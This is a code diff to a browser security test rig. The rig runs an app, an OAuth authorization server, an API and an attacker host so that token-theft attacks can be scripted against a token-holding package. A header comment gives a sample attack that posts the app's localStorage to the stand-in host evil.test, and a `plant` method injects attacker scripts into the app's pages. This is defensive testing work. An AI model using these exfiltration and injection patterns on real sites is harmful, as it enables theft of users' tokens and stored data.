@@ -1,8 +1,9 @@
-// The rig: an app that uses the packed package, its authorization server, its API, and an attacker, on four hosts with TLS.
+// The rig: an app that uses the packed package, its authorization server, its API, and an attacker, on hosts with TLS.
 //
 //   https://app.rig.test   the app         (tests/browser's pages and holders, from the packed package)
+//   https://auth.rig.test  in the way of running "own": the origin that the holder has for itself
 //   https://as.rig.test    the real authorization server
-//   https://api.rig.test   the API         (all three are one site, as in many a deployment)
+//   https://api.rig.test   the API         (all of these are one site, as in many a deployment)
 //   https://evil.test      the attacker, with any other host: another site, which records whatever arrives
 //
 // How to write an attack, in a file `tests/attacks/<subject>.test.mjs`:
@@ -23,7 +24,7 @@
 //     await evil.post(Object.entries(localStorage));
 //   }
 //
-// `outcome` is a word for all ways of running, or an object by `mode` or `"mode, when"`. What `work` returns is "stopped",
+// `outcome` is a word for all ways of running, or an object by `mode` or `"mode, when"`, or `butOwn(word)`. What `work` returns is "stopped",
 // "works" or "limited", or `[word, note]` with a few words that go into docs/security/results.md: nothing in a note may
 // differ from run to run. A `title` with ids of requirements at its end counts for docs/conformance.md.
 //
@@ -35,61 +36,62 @@ import { startAuthorizationServer } from "../../../www/server/authorization-serv
 import { startResourceServer } from "../../../www/server/resource-server.mjs";
 import { startAppServer } from "../../browser/support/app-server.mjs";
 import { browser } from "../../browser/support/browser.mjs";
-import { signIn } from "../../browser/support/sign-in.mjs";
 import { scope } from "../../browser/support/stage.mjs";
 import { makeEvil } from "../scripts/evil.mjs";
 import { brokenFiles } from "./broken.mjs";
 import { startEvil } from "./evil.mjs";
 import { startFront } from "./front.mjs";
+import { startHome } from "./home.mjs";
 import { request } from "./outside.mjs";
 import { scan, summaryOf } from "./scanner.mjs";
 import { followSecrets } from "./secrets.mjs";
+import { waysOf } from "./signing-in.mjs";
 
-const hosts = { app: "app.rig.test", as: "as.rig.test", api: "api.rig.test", evil: "evil.test" };
+const hosts = { app: "app.rig.test", auth: "auth.rig.test", as: "as.rig.test", api: "api.rig.test", evil: "evil.test" };
 
 /**
  * Starts a rig for test `t`, which takes it down. `as` and `api` have options of the authorization server and of the API,
  * `config` overrides members of the holder's configuration or is a function of the rig that answers them, `headers` go
  * with every answer of the app's origin, `policy` is its Content-Security-Policy (none: a script is in), `context` has
- * options of the browser's profile. What else is given goes to the app's server.
+ * options of the browser's profile, or makes one, and `home` is startHome's. What else is given goes to the app's server.
  */
 export async function startRig(t, options = {}) {
-  const { mode = "shared", when = "late", as: asOptions, api: apiOptions, config = {}, context: profile, ...more } = options;
+  const { mode = "shared", when = "late", as: asOptions, api: apiOptions, config = {}, context: profile, home: place, ...more } = options;
   const broken = await brokenFiles();
   const front = await startFront();
   const origins = Object.fromEntries(Object.entries(hosts).map(([name, host]) => [name, front.originOf(host)]));
   const as = await startAuthorizationServer({ accessTokenTtl: 600, publicOrigin: origins.as, ...asOptions });
   // It stands behind the front, which says by what name it was called.
   as.provider.proxy = true;
-  const api = await startResourceServer({ authorizationServer: as, publicOrigin: origins.api, origins: [origins.app], ...apiOptions });
   const shown = { mode, holder: "/holder.js", config: "null", policy: "", ...more, files: { ...more.files, ...broken } };
   const app = await startAppServer(shown);
+  const home = await startHome({ mode, front, origins, shown, files: broken, ...place });
+  const callers = { origins: [home.origin] };
+  const api = await startResourceServer({ authorizationServer: as, publicOrigin: origins.api, ...callers, ...apiOptions });
   const evil = await startEvil();
   const behind = (port) => `http://127.0.0.1:${port}`;
   Object.assign(front.routes, { [hosts.app]: app.origin, [hosts.as]: as.origin, [hosts.api]: behind(api.port), "*": behind(evil.port) });
-  const context = await (await browser()).newContext(profile);
+  const context = typeof profile === "function" ? await profile() : await (await browser()).newContext(profile);
   t.after(async () => {
     // The browser may be gone already, where the rig was the whole file's.
     await context.close().catch(() => {});
     await front.close();
-    await Promise.all([app, as, api, evil].map((one) => one.close()));
+    await Promise.all([app, home, as, api, evil].map((one) => one.close()));
   });
-  as.allow({
-    redirectUris: [`${origins.app}/callback`],
-    postLogoutRedirectUris: [`${origins.app}/bye`],
-    origins: [origins.app],
-  });
-  const rig = new Rig({ mode, when, front, origins, as, api, evil, context, shown });
+  as.allow({ redirectUris: [home.callback], postLogoutRedirectUris: [home.bye], ...callers });
+  const rig = new Rig({ mode, when, front, origins, as, api, evil, home, context, shown });
   rig.configure(typeof config === "function" ? config(rig) : config);
   return rig;
 }
 
 class Rig {
   #followed;
+  #ways;
 
   constructor(parts) {
     Object.assign(this, parts);
-    this.#followed = followSecrets(this.as.provider);
+    this.#ways = waysOf(this.mode);
+    this.#followed = followSecrets(this.as.provider, { requests: this.mode === "own" });
     this.app = { origin: this.origins.app };
     this.console = [];
     this.context.on("console", (message) => this.console.push(message.text()));
@@ -101,7 +103,7 @@ class Rig {
     const config = {
       issuer: this.as.issuer,
       clientId: "tokenkeep-demo",
-      redirectUri: `${this.origins.app}/callback`,
+      redirectUri: this.home.callback,
       scope,
       resourceServers: [`${this.origins.api}/v1/`],
       // A busy machine must not run into a limit that is not the subject.
@@ -127,12 +129,28 @@ class Rig {
   /** A new tab of the app, signed in through the pages of the authorization server. */
   async signedIn() {
     const page = await this.open();
-    const session = await signIn(page);
+    const session = await this.signIn(page);
     if (!session) throw new Error("signed in, and no session");
     return page;
   }
 
-  /** Has `script(evil, given)` run in every document of the app's origin from now on, before anything else. */
+  /** Signs in as a person would. Resolves to what `resume()` says. */
+  async signIn(page, options) {
+    await this.arrive(page, options);
+    return page.evaluate(() => app.auth.resume());
+  }
+
+  /** As `signIn`, up to the moment when the page of the app has loaded and nothing is finished yet. */
+  arrive(page, options) {
+    return this.#ways.arrive(page, options);
+  }
+
+  /** Passes the pages in a popup that signs in; it closes itself. */
+  finishIn(popup) {
+    return this.#ways.finish(popup);
+  }
+
+  /** Has `script(evil, given)` run in every document of the app's origin, the attacker's reach, before anything else. */
   plant(script, given) {
     const source = `if (location.origin === ${JSON.stringify(this.origins.app)}) { ${this.#source(script, given)} }`;
     return this.context.addInitScript({ content: source });
@@ -152,7 +170,8 @@ class Rig {
   }
 
   #source(script, given) {
-    const evil = `(globalThis.evil ??= (${makeEvil})(${JSON.stringify(this.origins.evil)}))`;
+    const { mode, holder } = this.shown;
+    const evil = `(globalThis.evil ??= (${makeEvil})(${JSON.stringify(this.origins.evil)}, ${JSON.stringify({ mode, holder })}))`;
     return `(${script})(${evil}, ${JSON.stringify(given) ?? "undefined"})`;
   }
 
@@ -181,11 +200,15 @@ class Rig {
     return this.found(this.evil.text(), ...names);
   }
 
-  /** "stopped" if none of these secrets reached the attacker, or `["works", what did]`. Each must be there to be stolen. */
+  /**
+   * "stopped" if none of these secrets reached the attacker, or `["works", what did]`. Each must be there to be stolen. With
+   * the holder on an origin of its own the app's server must not have seen one either.
+   */
   verdict(...names) {
     const missing = names.filter((name) => this.secrets(name).length === 0);
     if (missing.length) throw new Error(`nothing was at stake: no ${missing.join(", no ")}`);
-    const kinds = new Set(this.stolen(...names).map((one) => one.replace(/ \(.*/, "")));
+    const seen = this.mode === "own" ? this.found(this.front.passed(hosts.app)) : [];
+    const kinds = new Set([...this.stolen(...names), ...seen].map((one) => one.replace(/ \(.*/, "")));
     return kinds.size === 0 ? "stopped" : ["works", [...kinds].sort().join(", ")];
   }
 
